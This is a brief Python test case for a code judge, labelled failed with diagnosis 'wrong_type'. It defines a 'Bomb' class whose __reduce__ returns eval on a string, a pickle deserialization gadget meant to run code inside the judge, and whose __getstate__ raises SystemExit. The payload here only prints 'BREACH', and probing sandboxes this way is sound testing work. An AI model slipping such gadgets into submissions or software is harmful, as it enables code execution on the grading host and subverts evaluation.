# promise: what is returned is data: nothing of it runs in the judge
# exercise: neighbours
# verdict: failed
# diagnosis: wrong_type
class Bomb:
    def __reduce__(self):
        return eval, ("print('BREACH')",)

    def __getstate__(self):
        raise SystemExit


def neighbours():
    return Bomb()
